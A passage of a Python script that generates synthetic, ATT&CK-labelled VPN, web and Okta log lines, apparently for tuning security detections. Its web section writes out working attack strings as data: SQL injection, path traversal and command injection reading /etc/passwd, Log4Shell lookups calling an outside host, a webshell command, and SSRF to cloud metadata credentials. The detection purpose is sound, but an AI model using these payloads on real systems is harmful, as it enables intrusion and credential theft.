    add(s, ipt(590, "gw01", "INPUT-DROP", "162.142.125.10", "203.0.113.20", 51515, 8080), None, "lone internet scanner hit, dropped (background noise)")


def vpn():
    s = "vpn"
    for i in range(5):
        add(s, f"{ts(10 + i * 3, '3164')} vpn01 openvpn[1182]: 77.91.124.10:{R.randint(30000, 60000)} TLS Auth Error: Auth Username/Password verification failed for peer [CN=j.patel]",
            "T1110.001", "repeated failed VPN logins for one user from one IP")
    for i, u in enumerate(["a.wong", "c.dupont", "f.rossi", "h.tanaka", "k.meyer"]):
        add(s, f"{ts(60 + i * 2, '3164')} asa-vpn01 : %ASA-6-113015: AAA user authentication Rejected : reason = AAA failure : server = 10.0.0.40 : user = {u} : user IP = 185.156.73.54",
            "T1110.003", "AnyConnect spray across users from one IP")
    add(s, f"{ts(120, '3164')} asa-vpn01 : %ASA-6-113004: AAA user authentication Successful : server = 10.0.0.40 : user = f.rossi", None, "normal AnyConnect authentication")
    add(s, f"{ts(125, '3164')} asa-vpn01 : %ASA-4-722051: Group <AnyConnect-Staff> User <f.rossi> IP <93.41.22.180> IPv4 Address <10.99.0.41> assigned to session", None, "normal VPN session")
    add(s, f"{ts(130, '3164')} vpn01 openvpn[1182]: 82.113.40.7:51822 [m.lopez] Peer Connection Initiated with [AF_INET]82.113.40.7:51822", None, "normal OpenVPN connect")
    add(s, f"{ts(140, '3164')} vpn01 openvpn[1182]: 88.217.14.9:40112 TLS Auth Error: Auth Username/Password verification failed for peer [CN=s.berg]", None, "one failed VPN login, isolated")
    add(s, f"{ts(150, '3164')} vpn01 openvpn[1182]: m.lopez/82.113.40.7:51822 SIGTERM[soft,remote-exit] received, client-instance exiting", None, "disconnect")
    gp = lambda sec, user, ip, status, country, stage="login", err="": (f"1,{(T0 + timedelta(seconds=sec)).strftime('%Y/%m/%d %H:%M:%S')},013201009876,GLOBALPROTECT,0,2561,{(T0 + timedelta(seconds=sec)).strftime('%Y/%m/%d %H:%M:%S')},vsys1,gateway-auth,{stage},SAML,,{user},{country},PC-{user.split('.')[0].upper()},{ip},0.0.0.0,0.0.0.0,0.0.0.0,{R.randint(10**5, 10**6)},Windows,\"Microsoft Windows 11 Enterprise , 64-bit\",6.2.4,,\"{err}\",{status},,0,,GP-Gateway,")
    add(s, gp(200, "n.ahmed", "81.2.69.160", "success", "GB"), None, "GlobalProtect login from the user's usual country")
    add(s, gp(210, "n.ahmed", "103.75.201.4", "success", "VN", stage="login"), "T1078", "same user logs in from Vietnam 10 seconds after the UK: impossible travel")
    add(s, gp(220, "r.silva", "177.37.12.8", "success", "BR"), None, "Brazil-based employee logging in")
    add(s, gp(230, "t.kim", "211.36.140.12", "failure", "KR", err="Authentication failed: Invalid username or password"), None, "single failure")
    for i in range(4):
        add(s, f"date={(T0 + timedelta(seconds=300 + i)).strftime('%Y-%m-%d')} time={(T0 + timedelta(seconds=300 + i)).strftime('%H:%M:%S')} devname=\"FGT-HQ-01\" logid=\"0101039426\" type=\"event\" subtype=\"vpn\" level=\"alert\" vd=\"root\" logdesc=\"SSL VPN login fail\" action=\"ssl-login-fail\" tunneltype=\"ssl-web\" remip=146.70.117.{40 + i % 2} user=\"admin\" group=\"N/A\" reason=\"sslvpn_login_permission_denied\" msg=\"SSL user failed to logged in\"",
            "T1110.001", "burst of SSL-VPN failures for 'admin'")
    add(s, f"date={(T0 + timedelta(seconds=400)).strftime('%Y-%m-%d')} time={(T0 + timedelta(seconds=400)).strftime('%H:%M:%S')} devname=\"FGT-HQ-01\" logid=\"0101039947\" type=\"event\" subtype=\"vpn\" level=\"information\" vd=\"root\" logdesc=\"SSL VPN tunnel up\" action=\"tunnel-up\" tunneltype=\"ssl-tunnel\" remip=92.40.181.22 tunnelip=10.212.134.200 user=\"e.lindqvist\" group=\"staff\" reason=\"N/A\" msg=\"SSL tunnel established\"",
        None, "FortiGate SSL-VPN tunnel up")
    add(s, f"date={(T0 + timedelta(seconds=410)).strftime('%Y-%m-%d')} time={(T0 + timedelta(seconds=410)).strftime('%H:%M:%S')} devname=\"FGT-HQ-01\" logid=\"0101039948\" type=\"event\" subtype=\"vpn\" level=\"information\" vd=\"root\" logdesc=\"SSL VPN tunnel down\" action=\"tunnel-down\" tunneltype=\"ssl-tunnel\" remip=92.40.181.22 tunnelip=10.212.134.200 user=\"e.lindqvist\" group=\"staff\" reason=\"idle timeout\" msg=\"SSL tunnel shutdown\"",
        None, "idle timeout")
    add(s, json.dumps({"timestamp": ts(500), "vendor": "wireguard-portal", "event": "handshake", "peer": "laptop-hkim", "user": "h.kim", "src_ip": "89.64.12.5", "country": "PL", "outcome": "success"}), None, "WireGuard peer handshake")
    add(s, json.dumps({"timestamp": ts(510), "vendor": "wireguard-portal", "event": "login", "user": "svc_backup", "src_ip": "45.142.212.61", "country": "NL", "outcome": "success", "client": "python-requests/2.31"}),
        "T1078", "service account (never used for VPN) logging in from a hosting provider")
    add(s, f"{ts(520, '3164')} asa-vpn01 : %ASA-4-113019: Group = AnyConnect-Staff, Username = f.rossi, IP = 93.41.22.180, Session disconnected. Session Type: SSL, Duration: 1h:02m:11s, Bytes xmt: 20431221, Bytes rcv: 2210443, Reason: User Requested", None, "normal disconnect")
    add(s, f"{ts(530, '3164')} asa-vpn01 : %ASA-5-722037: Group <AnyConnect-Staff> User <m.lopez> IP <82.113.40.7> SVC closing connection: DPD failure.", None, "dead peer")
    add(s, gp(540, "t.kim", "211.36.140.12", "success", "KR"), None, "succeeds after the single failure")
    add(s, f"{ts(550, '3164')} vpn01 openvpn[1182]: 89.64.12.5:60122 [h.kim] Peer Connection Initiated with [AF_INET]89.64.12.5:60122", None, "normal OpenVPN connect")
    add(s, f"{ts(560, '3164')} asa-vpn01 : %ASA-6-113004: AAA user authentication Successful : server = 10.0.0.40 : user = a.wong", None, "normal authentication")


def web():
    s = "web-access"
    UA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"

    def ng(sec, ip, req, status, size, ref="-", ua=UA, user="-"):
        return f'{ip} - {user} [{ts(sec, "clf")}] "{req}" {status} {size} "{ref}" "{ua}"'

    def ap(sec, ip, req, status, size, user="-"):
        return f'{ip} - {user} [{ts(sec, "clf")}] "{req}" {status} {size}'
    add(s, ng(10, "91.134.22.7", "GET /products?id=1%20UNION%20SELECT%20username,password%20FROM%20users-- HTTP/1.1", 500, 312), "T1190", "UNION-based SQL injection")
    add(s, ng(11, "91.134.22.7", "GET /products?id=1'%20OR%20'1'='1 HTTP/1.1", 200, 18231), "T1190", "boolean SQL injection")
    add(s, ng(12, "91.134.22.7", "GET /products?id=1%2527%2520AND%2520SLEEP(5)--%2520- HTTP/1.1", 200, 512), "T1190", "double-encoded time-based SQL injection")
    add(s, ng(20, "45.148.10.95", "GET /static/../../../../etc/passwd HTTP/1.1", 400, 166), "T1190", "path traversal")
    add(s, ap(21, "45.148.10.95", "GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh HTTP/1.1", 400, 226), "T1190", "encoded traversal (Apache CVE-2021-41773 style)")
    add(s, ng(30, "194.165.16.11", "GET / HTTP/1.1", 200, 612, ua="${jndi:ldap://194.165.16.11:1389/Exploit}"), "T1190", "Log4Shell in the User-Agent")
    add(s, ng(31, "194.165.16.11", "GET /?x=${${lower:j}ndi:${lower:r}mi://194.165.16.11/a} HTTP/1.1", 200, 612), "T1190", "obfuscated Log4Shell lookup")
    add(s, ap(40, "80.94.95.220", "GET /cgi-bin/ping.cgi?host=127.0.0.1;cat%20/etc/passwd HTTP/1.1", 200, 1822), "T1190", "command injection")
    add(s, ng(50, "80.94.95.220", "POST /uploads/2026/11/img_thumb.php?cmd=whoami HTTP/1.1", 200, 41), "T1505.003", "webshell command in an uploads folder")
    add(s, ng(60, "80.94.95.220", "GET /api/fetch?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/ HTTP/1.1", 200, 88), "T1552.005", "SSRF to the instance metadata service")
    add(s, ng(70, "146.70.200.12", "GET /index.php?id=1 HTTP/1.1", 200, 9211, ua="sqlmap/1.8.11#stable (https://sqlmap.org)"), "T1595.002", "sqlmap from an external IP")
    add(s, ap(71, "146.70.200.12", "GET /admin/config.php HTTP/1.1", 404, 196), "T1595.002", "scanner probe for admin config (same source)")
    add(s, ng(80, "138.68.93.101", "GET /.env HTTP/1.1", 404, 153, ua="Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000120)"), "T1595.002", "Nikto scan")
    add(s, ng(81, "138.68.93.101", "GET /.git/config HTTP/1.1", 404, 153, ua="Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/114.0.0.0 Safari/537.36 nuclei"), "T1595.002", "nuclei probing for .git")
    for i in range(4):
        add(s, ng(90 + i, "5.181.80.44", "POST /wp-login.php HTTP/1.1", 200, 4211, ref="https://blog.example.com/wp-login.php", ua="Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0"), "T1110.001", "rapid repeated wp-login posts from one IP")
    # benign
    add(s, ng(200, "81.2.69.160", "GET /search?q=select+a+winter+jacket HTTP/2.0", 200, 22311, ref="https://shop.example.com/"), None, "search containing the word select")
    add(s, ng(210, "93.41.22.180", "GET /search?q=%22men%27s+boots%22 HTTP/2.0", 200, 19331, ref="https://shop.example.com/"), None, "search with quotes and an apostrophe")
    add(s, ng(220, "10.40.0.2", "GET /healthz HTTP/1.1", 200, 2, ua="kube-probe/1.31"), None, "health check")
    add(s, ng(230, "10.10.5.21", "GET /index.php?id=1%27 HTTP/1.1", 200, 9211, ua="Mozilla/5.0 (compatible; Qualys Vulnerability Scanner; +https://www.qualys.com)"), None, "approved Qualys scan from the internal scanner host")
    add(s, ng(231, "10.10.5.20", "GET /nessus-check/ HTTP/1.1", 404, 153, ua="Mozilla/5.0 (compatible; Nessus; Tenable authorised internal scan)"), None, "approved Nessus scan from the internal scanner host")
    add(s, ng(240, "66.249.66.1", "GET /robots.txt HTTP/1.1", 200, 68, ua="Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"), None, "Googlebot")
    add(s, ng(250, "81.2.69.160", "GET /static/app.3f9c1b.js HTTP/2.0", 200, 188231, ref="https://shop.example.com/"), None, "static asset")
    add(s, ng(260, "81.2.69.160", "POST /api/cart HTTP/2.0", 201, 311, ref="https://shop.example.com/product/boots-42"), None, "add to cart")
    add(s, ap(270, "10.20.14.55", "GET /intranet/wiki/Onboarding HTTP/1.1", 200, 44123, user="jsmith"), None, "intranet page with basic auth user")
    add(s, ap(280, "93.41.22.180", "GET /favicon.ico HTTP/1.1", 404, 209), None, "missing favicon")
    add(s, ng(290, "93.41.22.180", "GET /product/boots-42?ref=newsletter&utm_source=email HTTP/2.0", 200, 30112, ref="https://mail.google.com/"), None, "newsletter click")
    add(s, ng(300, "10.40.0.2", "GET /metrics HTTP/1.1", 200, 8123, ua="Prometheus/2.54.1"), None, "metrics scrape")
    add(s, ap(310, "81.2.69.160", "GET /docs/sql/select-statement.html HTTP/1.1", 200, 15220), None, "documentation page about SQL SELECT")
    add(s, ng(320, "81.2.69.160", "POST /login HTTP/2.0", 302, 0, ref="https://shop.example.com/login"), None, "single customer login")
    add(s, ng(330, "93.41.22.180", "GET /search?q=1%3D1+offer HTTP/2.0", 200, 19000, ref="https://shop.example.com/"), None, "search text with an equals sign")
    add(s, ap(340, "10.20.22.9", "GET /intranet/reports?year=2026&dept=finance HTTP/1.1", 200, 8812, user="lnguyen"), None, "intranet report")
    add(s, ng(350, "93.41.22.180", "GET /api/products?sort=price&order=asc&page=2 HTTP/2.0", 200, 4412, ref="https://shop.example.com/"), None, "API paging")
    add(s, ng(360, "81.2.69.160", "GET /blog/how-to-union-two-tables-in-sql HTTP/2.0", 200, 28110, ref="https://www.google.com/"), None, "blog post title containing union")


def okta_ev(sec, etype, actor, ip, country, result, display, reason=None, target=None, severity="INFO", city="", ua="Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/131.0 Safari/537.36", debug=None):
    ev = {"actor": {"id": "00u%017x" % R.getrandbits(68), "type": "User", "alternateId": actor, "displayName": actor.split("@")[0].replace(".", " ").title()},
          "client": {"userAgent": {"rawUserAgent": ua, "os": "Windows 10", "browser": "CHROME"}, "zone": "null", "device": "Computer", "ipAddress": ip,
                     "geographicalContext": {"city": city, "country": country}},
          "authenticationContext": {"authenticationStep": 0, "externalSessionId": "102%020x" % R.getrandbits(80)},
          "displayMessage": display, "eventType": etype, "outcome": {"result": result, "reason": reason}, "published": ts(sec),
          "severity": severity, "uuid": "%08x-%04x-11ef-%04x-%012x" % (R.getrandbits(32), R.getrandbits(16), R.getrandbits(16), R.getrandbits(48)), "version": "0",
          "legacyEventType": None, "transaction": {"type": "WEB", "id": "Z%019x" % R.getrandbits(76)}, "debugContext": {"debugData": debug or {}}}
    if target:
        ev["target"] = target
    return json.dumps(ev, separators=(",", ":"))


def okta():
    s = "okta"
    for i in range(6):
        add(s, okta_ev(10 + i * 8, "user.mfa.okta_verify.deny_push", "g.hoffmann@corp.example.com", "185.107.56.201", "Netherlands", "FAILURE", "User rejected Okta push verify", reason="User rejected Okta push verify", severity="WARN"),
            "T1621", "repeated push denials: MFA fatigue")
    add(s, okta_ev(70, "user.authentication.auth_via_mfa", "g.hoffmann@corp.example.com", "185.107.56.201", "Netherlands", "SUCCESS", "Authentication of user via MFA"), "T1621", "user finally accepts the push from the attacker's IP")
    for i, u in enumerate(["a.wong", "b.fischer", "c.dupont", "d.okafor", "e.lindqvist"]):
        add(s, okta_ev(100 + i, "user.session.start", f"{u}@corp.example.com", "194.26.29.113", "Russia", "FAILURE", "User login to Okta", reason="INVALID_CREDENTIALS", severity="WARN", ua="python-requests/2.31.0"),
            "T1110.003", "password spray against Okta from one IP")
    add(s, okta_ev(150, "user.account.privilege.grant", "d.okafor@corp.example.com", "194.26.29.113", "Russia", "SUCCESS", "Grant user privilege",
                   target=[{"id": "00uabc", "type": "User", "alternateId": "d.okafor@corp.example.com", "displayName": "D Okafor"}], debug={"privilegeGranted": "Super administrator"}),
        "T1098.003", "user grants himself super admin from a sprayed IP")
    add(s, okta_ev(160, "system.api_token.create", "d.okafor@corp.example.com", "194.26.29.113", "Russia", "SUCCESS", "Create API token",
                   target=[{"id": "00Tdef", "type": "Token", "alternateId": "unknown", "displayName": "backup-sync"}]), "T1098.001", "API token created from the same foreign IP")
    add(s, okta_ev(170, "user.mfa.factor.reset_all", "d.okafor@corp.example.com", "194.26.29.113", "Russia", "SUCCESS", "Reset all factors for user",
                   target=[{"id": "00ughi", "type": "User", "alternateId": "cfo@corp.example.com", "displayName": "CFO"}]), "T1556.006", "MFA reset for the CFO by a non-admin from abroad")
    add(s, okta_ev(180, "policy.rule.deactivate", "d.okafor@corp.example.com", "194.26.29.113", "Russia", "SUCCESS", "Deactivate policy rule",
                   target=[{"id": "0prjkl", "type": "PolicyRule", "alternateId": "unknown", "displayName": "Require MFA for all users"}]), "T1556.006", "MFA policy rule deactivated")
    add(s, okta_ev(200, "user.session.start", "m.lopez@corp.example.com", "82.113.40.7", "Spain", "SUCCESS", "User login to Okta", city="Madrid"), None, "normal login")
    add(s, okta_ev(230, "user.session.start", "m.lopez@corp.example.com", "36.110.12.90", "China", "SUCCESS", "User login to Okta", city="Beijing"), "T1078.004", "same user from China 30 seconds after Madrid")
    for i in range(4):
        add(s, okta_ev(300 + i * 2, "user.session.start", "p.chen@corp.example.com", "89.248.165.72", "Netherlands", "FAILURE", "User login to Okta", reason="INVALID_CREDENTIALS", severity="WARN"), "T1110.001", "burst of failures for one user from one IP")
    add(s, okta_ev(400, "user.authentication.sso", "m.lopez@corp.example.com", "82.113.40.7", "Spain", "SUCCESS", "User single sign on to app", target=[{"id": "0oa1", "type": "AppInstance", "alternateId": "Slack", "displayName": "Slack"}]), None, "SSO to Slack")
    add(s, okta_ev(410, "user.session.start", "r.silva@corp.example.com", "177.37.12.8", "Brazil", "FAILURE", "User login to Okta", reason="INVALID_CREDENTIALS", severity="WARN", city="Sao Paulo"), None, "one mistyped password")
    add(s, okta_ev(420, "user.session.start", "r.silva@corp.example.com", "177.37.12.8", "Brazil", "SUCCESS", "User login to Okta", city="Sao Paulo"), None, "succeeds right after")
    add(s, okta_ev(430, "user.mfa.okta_verify.deny_push", "k.meyer@corp.example.com", "91.64.12.33", "Germany", "FAILURE", "User rejected Okta push verify", reason="User rejected Okta push verify", severity="WARN", city="Berlin"),
        None, "a single push denied by mistake")
    add(s, okta_ev(440, "system.api_token.create", "it-admin.tina@corp.example.com", "203.0.113.10", "United States", "SUCCESS", "Create API token", city="Austin",
                   target=[{"id": "00Tnew", "type": "Token", "alternateId": "unknown", "displayName": "scim-provisioning-2026Q4"}], debug={"changeTicket": "CHG-20471 quarterly token rotation"}), None, "quarterly API token rotation by the IT admin (new token)")
    add(s, okta_ev(445, "system.api_token.revoke", "it-admin.tina@corp.example.com", "203.0.113.10", "United States", "SUCCESS", "Revoke API token", city="Austin",
                   target=[{"id": "00Told", "type": "Token", "alternateId": "unknown", "displayName": "scim-provisioning-2026Q3"}], debug={"changeTicket": "CHG-20471 quarterly token rotation"}), None, "quarterly API token rotation (old token revoked)")
    add(s, okta_ev(450, "user.mfa.factor.activate", "n.ahmed@corp.example.com", "81.2.69.160", "United Kingdom", "SUCCESS", "User set up Okta Verify factor", city="London",
                   target=[{"id": "00uq", "type": "User", "alternateId": "n.ahmed@corp.example.com", "displayName": "N Ahmed"}]), None, "user enrolling a new phone herself")
    add(s, okta_ev(460, "application.user_membership.add", "it-admin.tina@corp.example.com", "203.0.113.10", "United States", "SUCCESS", "Add user to application membership", city="Austin",
                   target=[{"id": "0oa2", "type": "AppInstance", "alternateId": "GitHub", "displayName": "GitHub"}, {"id": "00ux", "type": "User", "alternateId": "jdoe@corp.example.com", "displayName": "J Doe"}]), None, "app assignment by admin")
    add(s, okta_ev(470, "user.authentication.auth_via_mfa", "m.lopez@corp.example.com", "82.113.40.7", "Spain", "SUCCESS", "Authentication of user via MFA", city="Madrid"), None, "MFA success")
    add(s, okta_ev(480, "user.session.end", "m.lopez@corp.example.com", "82.113.40.7", "Spain", "SUCCESS", "User logout from Okta", city="Madrid"), None, "logout")
    add(s, okta_ev(490, "user.account.update_password", "k.meyer@corp.example.com", "91.64.12.33", "Germany", "SUCCESS", "User update password for Okta", city="Berlin"), None, "user changed own password")
    add(s, okta_ev(500, "group.user_membership.add", "it-admin.tina@corp.example.com", "203.0.113.10", "United States", "SUCCESS", "Add user to group membership", city="Austin",
                   target=[{"id": "00g1", "type": "UserGroup", "alternateId": "unknown", "displayName": "Engineering"}]), None, "onboarding group add")
    for i, (u, ip, c, city) in enumerate([("a.wong", "81.2.69.170", "United Kingdom", "London"), ("b.fischer", "91.64.12.40", "Germany", "Munich"), ("c.dupont", "90.84.14.2", "France", "Paris"),
                                          ("h.tanaka", "126.12.40.8", "Japan", "Tokyo"), ("jdoe", "203.0.113.44", "United States", "Austin")]):
        add(s, okta_ev(520 + i * 17, "user.session.start", f"{u}@corp.example.com", ip, c, "SUCCESS", "User login to Okta", city=city), None, "ordinary morning login")
    add(s, okta_ev(620, "user.authentication.auth_via_mfa", "n.ahmed@corp.example.com", "81.2.69.160", "United Kingdom", "SUCCESS", "Authentication of user via MFA", city="London", debug={"factor": "OKTA_VERIFY_PUSH"}), None, "push accepted on the first try")
    add(s, okta_ev(630, "app.oauth2.as.token.grant.access_token", "jdoe@corp.example.com", "203.0.113.44", "United States", "SUCCESS", "OAuth2 access token is granted", city="Austin"), None, "app token grant")
    add(s, okta_ev(640, "user.lifecycle.create", "it-admin.tina@corp.example.com", "203.0.113.10", "United States", "SUCCESS", "Create okta user", city="Austin",
                   target=[{"id": "00un", "type": "User", "alternateId": "new.hire@corp.example.com", "displayName": "New Hire"}]), None, "onboarding")


for f in (windows_security, windows_system, sysmon, powershell, linux_syslog, linux_auth, auditd, cloudtrail, kubernetes, firewall, vpn, web, okta):
    f()

with open(os.path.join(HERE, "tuning.jsonl"), "w", encoding="utf-8") as out:
    for rec in OUT:
        out.write(json.dumps(rec, ensure_ascii=False) + "\n")
print(len(OUT), "lines")
